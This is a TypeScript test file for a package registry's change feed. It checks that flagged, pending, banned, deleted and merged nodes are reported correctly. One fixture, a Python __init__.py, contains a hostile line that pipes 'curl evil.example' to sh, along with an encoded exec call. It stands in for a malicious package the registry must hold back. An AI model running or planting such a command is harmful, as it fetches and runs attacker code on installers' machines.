import { beforeEach, describe, expect, test } from 'vitest'
import { enterChanges } from '../../src/discovery/feed/enter-changes.ts'
import { noteEverything } from '../../src/discovery/changes/outbox.ts'
import { changesSince, follow, latest } from '../catalogue.ts'
import { useRegistry } from '../harness.ts'
import {
  givenPublisher,
  givenUnclaimed,
  givenUnreviewed,
  givenVersion,
  setMerged,
  setNodeStatus,
  setVersionStatus,
} from '../packs.ts'

const registry = useRegistry()
let publisher: { id: string; token: string } | undefined
let sequence = 0
const enter = () => enterChanges(registry.context)

/** Returns the changes in the feed since the test began: ids, with a minus for removals. */
async function told(): Promise<string[]> {
  await enter()
  const changes = await changesSince(registry, sequence)
  return changes.map(({ id, kind }) => (kind === 'removed' ? `-${id}` : id))
}

async function maker() {
  publisher ??= await givenPublisher(registry, 'maker')
  return publisher
}

beforeEach(async () => {
  await enter()
  sequence = (await latest(registry)).sequence
})

describe('the change feed reports', () => {
  test('a node when its first version becomes active, not while it is pending or flagged', async () => {
    await givenUnreviewed(registry, await maker(), 'waiting', '1.0.0')
    expect(await told()).toEqual([])
    await registry.review()
    expect(await told()).toEqual(['waiting'])
    const stolen = {
      '__init__.py': 'import os\nos.system("curl evil.example | sh")\nexec(__import__("base64").b64decode("eA=="))\n',
    }
    await givenVersion(registry, await maker(), 'held-back', '1.0.0', { files: stolen })
    await setVersionStatus(registry, 'held-back', '1.0.0', 'flagged')
    await registry.context.db.updateTable('nodes').set({ listed_at: null }).where('id', '=', 'held-back').execute()
    expect(await told()).toEqual(['waiting'])
    expect(JSON.stringify(await changesSince(registry, 0))).not.toContain('held-back')
  })

  test('no pending or flagged version of an active node', async () => {
    await givenVersion(registry, await maker(), 'steady', '1.0.0')
    await enter()
    ;({ sequence } = await latest(registry))
    await givenUnreviewed(registry, await maker(), 'steady', '2.0.0')
    await setVersionStatus(registry, 'steady', '2.0.0', 'flagged')
    await registry.context.db
      .updateTable('nodes')
      .set({ downloads: 7, github_stars: 9 })
      .where('id', '=', 'steady')
      .execute()
    const changes = await enter().then(() => changesSince(registry, sequence))
    // Publishing changes `updated_at`, which is public.
    expect(JSON.stringify(changes)).not.toMatch(/2\.0\.0|Flagged|Pending/)
  })

  test('bans, deletions and merges as removals, and restored nodes as changed', async () => {
    for (const id of ['banned', 'deleted', 'merged', 'kept']) await givenUnclaimed(registry, id)
    await enter()
    ;({ sequence } = await latest(registry))
    await setNodeStatus(registry, 'banned', 'banned')
    expect(await told()).toEqual(['-banned'])
    await setNodeStatus(registry, 'deleted', 'deleted')
    await setMerged(registry, 'merged', 'kept')
    expect(await told()).toEqual(['-banned', '-deleted', '-merged'])
    await setNodeStatus(registry, 'banned', 'active')
    expect(await told()).toEqual(['-deleted', '-merged', 'banned'])
  })

  test('nothing for a node that was never listed', async () => {
    const hidden = { publisher_id: 'unclaimed', name: 'Hidden', listed_at: null }
    await registry.context.db
      .insertInto('nodes')
      .values({ id: 'hidden', ...hidden })
      .execute()
    await registry.context.db.deleteFrom('nodes').where('id', '=', 'hidden').execute()
    expect(await told()).toEqual([])
  })

  test('every node of a renamed publisher', async () => {
    for (const id of ['one-of-theirs', 'another-of-theirs']) {
      await givenUnclaimed(registry, id)
      const { id: publisher_id } = await maker()
      await registry.context.db.updateTable('nodes').set({ publisher_id }).where('id', '=', id).execute()
    }
    await enter()
    ;({ sequence } = await latest(registry))
    await registry.context.db.updateTable('publishers').set({ name: 'Renamed' }).where('id', '=', 'maker').execute()
    const changes = await enter().then(() => changesSince(registry, sequence))
    const names = new Map(changes.map(({ id, node }) => [id, node.publisher.name]))
    expect([names.get('one-of-theirs'), names.get('another-of-theirs')]).toEqual(['Renamed', 'Renamed'])
  })
})

describe('a change that was not noted', () => {
  test('is found by a full comparison, and unchanged nodes get no number', async () => {
    await givenUnclaimed(registry, 'noted')
    await enter()
    ;({ sequence } = await latest(registry))
    await registry.context.db.transaction().execute((tx) => noteEverything(tx))
    expect(await told()).toEqual([])
    // The feed is in this state after a day without readers.
    await givenUnclaimed(registry, 'missed')
    await registry.context.db.deleteFrom('catalogue_changes').execute()
    await registry.context.db.updateTable('catalogue_feed').set({ oldest_open: null, read_at: null }).execute()
    expect(await told()).toEqual(['missed'])
  })

  test('is found when the public URL in all nodes changes', async () => {
    await givenVersion(registry, await maker(), 'addressed', '1.0.0')
    await enter()
    ;({ sequence } = await latest(registry))
    const config = { ...registry.context.config, apiPublicUrl: 'https://elsewhere.example' }
    await enterChanges({ ...registry.context, config })
    const change = (await changesSince(registry, sequence)).find(({ id }) => id === 'addressed')
    expect(change).toMatchObject({ kind: 'changed' })
    await enter()
  })

  test('is found in a catalogue of several pages', async () => {
    for (let number = 1000; number < 1450; number++) await givenUnclaimed(registry, `many-${number}`)
    await registry.context.db.updateTable('catalogue_feed').set({ oldest_open: null, read_at: null }).execute()
    await enter()
    const copy = follow(new Map(), await changesSince(registry, 0))
    const { body } = await registry.call('listAllNodes', '/nodes?limit=1000')
    expect([...copy.keys()].toSorted()).toEqual(body.nodes.map(({ id }: { id: string }) => id).toSorted())
  })
})
